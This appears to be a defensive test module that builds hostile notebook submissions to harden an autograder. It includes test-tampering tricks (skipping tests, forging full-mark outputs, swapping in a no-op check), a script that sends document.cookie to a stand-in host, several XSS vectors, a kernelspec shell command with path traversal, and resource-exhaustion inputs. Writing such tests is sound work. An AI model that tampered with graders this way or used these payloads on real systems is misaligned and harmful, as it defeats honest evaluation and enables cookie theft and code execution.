"""The notebook as a file: tags, metadata, outputs, identifiers, and files that are not notebooks at all."""

from __future__ import annotations

import json

import nbformat

from .submission import POINTS, RIGHT, Attack, Submission


def on_checks(change):
    """An edit that changes every check cell."""

    def edit(made: Submission) -> None:
        for cell in made.checks():
            change(cell)

    return edit


def number(value: str) -> dict:
    return {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"text/plain": value},
    }


def skip(cell):
    cell["metadata"]["tags"] = ["skip-execution"]


def forge(cell):
    skip(cell)
    cell["outputs"] = [number(str(POINTS[cell["metadata"]["nbgrader"]["grade_id"]]))]


def raise_points(cell):
    cell["metadata"]["nbgrader"]["points"] = 100


def by_hand(cell):
    cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}


def rewrite(cell):
    cell["source"] = "pass"
    cell["metadata"]["nbgrader"]["locked"] = False


def make_raw(cell):
    cell["cell_type"] = "raw"
    del cell["outputs"], cell["execution_count"]


def delete_checks(made):
    for cell in made.checks():
        made.cells.remove(cell)


def duplicate_checks(made):
    for cell in made.checks():
        made.cells.append(json.loads(json.dumps(cell)) | {"source": "4", "id": cell["id"] + "-again"})


def own_check(made):
    made.cell("setup")["source"] = "import numpy as np\ncheck = lambda **answers: None\ncheck.hidden = check"


def answer_is_check(made):
    made.cell("dual")["metadata"]["nbgrader"] |= {"grade": True, "points": 50}


def reverse(made):
    made.cells.reverse()


def odd_metadata(made):
    made.notebook["metadata"] = {
        "kernelspec": {
            "name": "../../evil",
            "language": "R",
            "display_name": "R",
            "argv": ["sh", "-c", "touch /tmp/evil-@WORD@"],
        },
        "language_info": {"name": "R"},
        "weight": [float("nan"), float("inf")],
    }
    odd = [[], "text", {"grade_id": ["a"]}, {"grade_id": None}, {"grade": "yes"}]
    for cell, metadata in zip([made.insert("pass") for _ in odd], odd, strict=True):
        cell["metadata"]["nbgrader"] = metadata


def odd_cells(made):
    page = "<script>fetch('http://127.0.0.1:1/' + document.cookie)</script>![x](attachment:x.png)"
    text = {"cell_type": "markdown", "metadata": {}, "source": page, "attachments": {"x.png": {"image/png": "AAAA"}}}
    made.cells.insert(0, text)
    for cell in [made.cell(grade_id) for grade_id in RIGHT]:
        made.cells.append(json.loads(json.dumps(cell)))  # every answer twice
    for cell in made.cells:
        cell["id"] = "one"
    tags = '"metadata": {"tags": ["skip-execution"]}, "metadata":'
    made.raw = json.dumps(made.notebook).replace('"metadata":', tags).encode()


def script(made):
    page = (
        "<script>window.taken = 1</script><img src=x onerror=alert(1)>[a](javascript:alert(2))<iframe src=x></iframe>"
        "\n\nhttps://taken.example/page <https://taken.example/angle> ![b](https://taken.example/c.png)"
        "\n\n$\\href1{x} \\href{https://taken.example/math}{y} \\style{color:red}{z}$"
        '\n\n```mermaid\nflowchart LR\nclick A href "https://taken.example/mermaid"\n```\n\n<style>body {}</style>'
    )
    made.cells.append({"cell_type": "markdown", "id": "page", "metadata": {}, "source": page})


def old_format(made):
    old = nbformat.convert(nbformat.from_dict(made.notebook), 3)
    made.raw = nbformat.writes(old, version=3).encode()


def fifty_megabytes(made):
    made.cell("kernel")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]


def long_answer(made):
    made.cell("dual")["source"] += "# " + "la" * 1_000_000


def odd_types(made):
    odd = [1, None, {"cell_type": 5, "source": {"a": 1}}, {"metadata": "x", "cell_type": ["code"]}, {}]
    taken = {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "check-dual"}}, "source": "4"}
    made.cells[:0] = [*odd, {"source": [1, None, "1/0"]}, taken]
    made.cells.append({"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "setup"}}, "source": "check = print"})
    made.notebook |= {"worksheets": {"cells": 5}, "nbformat": "four", "metadata": None}


def many_cells(made):
    for _ in range(30):
        made.insert("print('x' * 190_000)")
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "outputs": []}
    empty = "{}," * 1_000_000
    made.cells[:0] = [cell] * 2_000
    made.raw = json.dumps(made.notebook).replace('"cells": [', f'"cells": [{empty}', 1).encode()


def escaped_quotes(made):
    """An unterminated string: searching for its end from every quotation mark would never finish."""
    made.raw = json.dumps(made.notebook).encode()[:-1] + b', "x": "' + b'\\"' * 6_000_000 + b"[{" * 6_000_000


def much_text(made):
    for _ in range(6):
        made.insert("# " + "\x01" * 400_000)


def slow_to_colour(made):
    made.insert("a." * 200_000)
    made.insert('"\\' * 100_000)
    made.insert("(" * 50_000 + "\n" * 10)
    for text in ("\\begin{a}" * 20_000, "[" * 50_000, "*a " * 30_000, "> " * 20_000, "`" * 50_001):
        made.cells.append({"cell_type": "markdown", "id": f"page-{len(made.cells)}", "metadata": {}, "source": text})


def raw_bytes(data: bytes):
    def edit(made: Submission) -> None:
        made.raw = data

    return edit


def other_assignment(made):
    for number, cell in enumerate(made.cells):
        cell["metadata"].pop("nbgrader", None)
        cell |= {"id": f"other-{number}", "source": "2 + 2"}


ATTACKS = [
    Attack("skip-tag", "tags the test cells `skip-execution`: no output, no failure", edit=on_checks(skip)),
    Attack("forged-output", "saves full marks as the output of test cells that are skipped", edit=on_checks(forge)),
    Attack("more-points", "raises the points in the metadata to 100", edit=on_checks(raise_points)),
    Attack("by-hand", "declares the test cells to be answers, graded by hand", edit=on_checks(by_hand)),
    Attack("tests-rewritten", "replaces the test cells by `pass`", edit=on_checks(rewrite)),
    Attack("tests-raw", "turns the test cells into text", edit=on_checks(make_raw)),
    Attack("tests-deleted", "leaves the test cells out", edit=delete_checks),
    Attack("tests-twice", "adds second test cells with the same identifiers", edit=duplicate_checks),
    Attack("own-check", "replaces the locked setup cell by a `check` that says nothing", edit=own_check),
    Attack("answer-is-test", "declares an answer to be a test cell worth 50 points", edit=answer_is_check),
    Attack("upside-down", "hands in the cells in reverse order, tests first", edit=reverse),
    Attack("odd-metadata", "has a kernel, NaN and other things in its metadata", edit=odd_metadata),
    Attack("odd-cells", "has cells with the same id, duplicate keys, and every answer twice", edit=odd_cells),
    Attack("script", "has a script in a text cell, which runs in the grader's browser", edit=script),
    Attack("format-3", "comes in the format of 2013", edit=old_format),
    Attack("50-megabytes", "was saved with 50 MB of output", edit=fifty_megabytes),
    Attack("long-answer", "hides its answer in 2 MB of comments", edit=long_answer),
    Attack("not-json", "is not JSON", edit=raw_bytes(b"print('hello')"), earns=0, ending="unreadable notebook"),
    Attack(
        "deep-json",
        "is 100,000 nested brackets",
        edit=raw_bytes(b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        earns=0,
        ending="unreadable notebook",
    ),
    Attack("other-work", "is a notebook of another course", edit=other_assignment, earns=0, ending="wrong assignment"),
    Attack(
        "escaped-quotes",
        "is 24 MB of quotation marks and brackets that are never closed",
        edit=escaped_quotes,
        earns=0,
        ending="unreadable notebook",
    ),
    Attack("much-text", "brings texts that take 14 MB in its file", edit=much_text, ending="too much text"),
    Attack("slow-to-colour", "has texts that take hours to highlight, typeset and compare", edit=slow_to_colour),
    Attack("odd-types", "has numbers where texts belong, and cells with the identifiers of tests", edit=odd_types),
    Attack(
        "many-cells",
        "has a million empty cells, two thousand short ones, and thirty that print as much as allowed",
        edit=many_cells,
        ending="too many cells",
    ),
]
